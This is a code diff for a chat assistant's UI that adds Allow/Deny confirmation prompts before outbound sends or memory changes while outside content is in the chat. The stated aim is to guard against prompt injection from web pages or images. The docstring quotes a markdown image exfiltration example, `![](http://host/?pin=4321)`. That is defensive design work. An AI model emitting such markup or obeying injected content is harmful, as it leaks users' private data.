@@ -15,7 +15,13 @@ the same turn looks the same while it streams and after a reload:
   shown: the step of the call it repeated is;
 - text the model writes before a tool call is a plain assistant message;
 - an image made by image_generate goes into the assistant bubble that answers the turn;
-- a provider failure is an assistant message marked with a warning sign.
+- a provider failure is an assistant message marked with a warning sign;
+- a call that waits for the person's yes (the lethal trifecta, a memory change proposed
+  while outside content is in the chat) is a question showing exactly what would be sent
+  or saved, with Allow and Deny buttons while it waits (``confirmation_bubble``; Gradio
+  shows a message's buttons only on the chat's last message, so ``TurnView.chat`` puts
+  the waiting question last), then the answer it got — the same after a reload, from
+  the call's stored ``meta["confirmation"]``.
 
 Every text shown is made inert first (``neutralise_markdown``): a model can write
 ``![](http://host/?pin=4321)`` or ``<img src=…>``, and the browser would fetch that URL the
@@ -41,6 +47,8 @@ from gradio import ChatMessage
 from app.graph_view import duration_text, plain
 from graph.events import (
     Answer,
+    ConfirmationAsked,
+    ConfirmationDecided,
     ModelDone,
     TextDelta,
     ToolEnd,
@@ -76,6 +84,22 @@ STEP_STOPPED = "stopped"
 NEEDS_LOCATION = "Weather: needs your location → set it in Settings"
 SQL_CHANGED = "Changed something in our history"
 SOURCES_HEADING = "**Sources**"
+QUESTION_MARK = "🔐"
+QUESTION_ENDINGS = {"outbound": " — allow?", "memory": "?"}
+QUESTION_WHY = {
+    "outbound": "Asked because this chat holds your private data and content from outside "
+    "(a web page or an image) that could be asking Companion to send it somewhere.",
+    "memory": "Asked because content from outside (a web page or an image) is in this chat: "
+    "memory changes wait for your yes.",
+}
+ANSWER_WORDS = {
+    "allowed": "✓ Allowed",
+    "declined": "✗ Declined",
+    "timed_out": "⏱ Not answered in time: not done",
+    "unasked": "Not done: nobody could be asked",
+    "stopped": "⏹ Stopped: not done",
+}
+ALLOW, DENY = "allow", "deny"  # an option's value: "<choice>:<question id>"
 # Characters a Markdown link destination cannot hold as they are (percent-encoded).
 URL_SAFE = ":/?#[]@!$&'*+,;=%~"
 
@@ -403,6 +427,47 @@ def ending_of(meta: Mapping[str, Any]) -> str:
     return ""
 
 
+def confirmation_bubble(
+    kind: str, question: str, sent: str, answer: str | None = None, asked_id: str = ""
+) -> ChatMessage:
+    """A question for the person: the words, exactly what would be sent or saved (as
+    code: nothing in it renders), why it is asked; then the answer it got, or (with no
+    ``answer`` yet) Allow and Deny buttons naming question ``asked_id``."""
+    ending = QUESTION_ENDINGS.get(kind, "?")
+    lines = [
+        f"{QUESTION_MARK} {neutralise_markdown(question)} {code(sent)}{ending}",
+        f"*{QUESTION_WHY.get(kind, '')}*",
+    ]
+    if answer is not None:
+        lines.append(f"**{ANSWER_WORDS.get(answer, answer)}**")
+        return ChatMessage(role="assistant", content="\n\n".join(lines))
+    options = [
+        {"value": f"{ALLOW}:{asked_id}", "label": "✓ Allow"},
+        {"value": f"{DENY}:{asked_id}", "label": "✗ Deny"},
+    ]
+    return ChatMessage(role="assistant", content="\n\n".join(lines), options=options)  # type: ignore[arg-type]
+
+
+def chosen_option(value: Any) -> tuple[str, bool] | None:
+    """(question id, allowed) from a clicked Allow/Deny option's value, or None."""
+    choice, _, asked_id = str(value or "").partition(":")
+    if choice not in (ALLOW, DENY) or not asked_id:
+        return None
+    return asked_id, choice == ALLOW
+
+
+def _stored_question(meta: Mapping[str, Any]) -> ChatMessage | None:
+    asked = meta.get("confirmation")
+    if not isinstance(asked, Mapping):
+        return None
+    return confirmation_bubble(
+        str(asked.get("kind")),
+        str(asked.get("question")),
+        str(asked.get("sent")),
+        str(asked.get("decision")),
+    )
+
+
 def history_messages(messages: Iterable[Message]) -> list[ChatMessage]:
     """A session's stored messages as chat messages, in order."""
     return [bubble for bubble, _ in history_entries(messages)]
@@ -425,6 +490,9 @@ def history_entries(messages: Iterable[Message]) -> list[tuple[ChatMessage, int 
             if message.meta.get("duplicate"):
                 continue
             meta = message.meta
+            question = _stored_question(meta)
+            if question is not None:
+                out.append((question, None))
             result = meta.get("result") if isinstance(meta.get("result"), dict) else {}
             step = tool_step(
                 message.tool_name or "tool",
@@ -472,6 +540,15 @@ class TurnView:
         self.answer: str | None = None
         self.user_message_id: int | None = None  # set once the user's message is stored
         self.trace: list[TraceEvent] = []  # the turn's path, once it has answered
+        self.asking: ConfirmationAsked | None = None  # the question waiting for the person
+
+    def chat(self, *after: ChatMessage) -> list[ChatMessage]:
+        """What the chat shows: the turn so far, then ``after`` (notices, queued messages),
+        then the question waiting for the person, if any (last: only the last message
+        shows its buttons)."""
+        asking = self.asking
+        waiting = [] if asking is None else [self._question(asking)]
+        return [*self.messages, *after, *waiting]
 
     def apply(self, event: TurnEvent) -> None:
         """Fold one turn event into the view."""
@@ -482,6 +559,10 @@ class TurnView:
                 self._text(event)
             case ModelDone():
                 self._model_done()
+            case ConfirmationAsked():
+                self.asking = event
+            case ConfirmationDecided():
+                self._answered(event.decision)
             case ToolStart():
                 self._tool_start(event)
             case ToolEnd():
@@ -512,6 +593,16 @@ class TurnView:
         if self._last_call is not None:
             self.messages[self._last_call].content = neutralise_markdown(self._written.strip())
 
+    @staticmethod
+    def _question(asked: ConfirmationAsked, answer: str | None = None) -> ChatMessage:
+        return confirmation_bubble(asked.kind, asked.question, asked.sent, answer, asked.id)
+
+    def _answered(self, answer: str) -> None:
+        """The waiting question got its answer (or the turn ended): it takes its place."""
+        if self.asking is not None:
+            self.messages.append(self._question(self.asking, answer))
+            self.asking = None
+
     def _tool_start(self, event: ToolStart) -> None:
         self._last_call = None
         self._steps[event.call_id] = len(self.messages)
@@ -530,8 +621,10 @@ class TurnView:
         self._sources += search_sources(event.name, event.result)
 
     def _stop(self) -> None:
-        """The turn was stopped: a step still running never finishes."""
+        """The turn was stopped: a step still running never finishes, a question waiting
+        is not answered."""
         self.stopped = True
+        self._answered("stopped")
         for index in self._steps.values():
             step = self.messages[index]
             metadata = dict(step.metadata or {})
@@ -544,6 +637,7 @@ class TurnView:
                 )
 
     def _answer(self, event: Answer) -> None:
+        self._answered("stopped")  # a turn that failed while it waited asks no more
         self.answer = event.text
         self.trace = event.trace
         if self.stopped and self._streaming is not None:
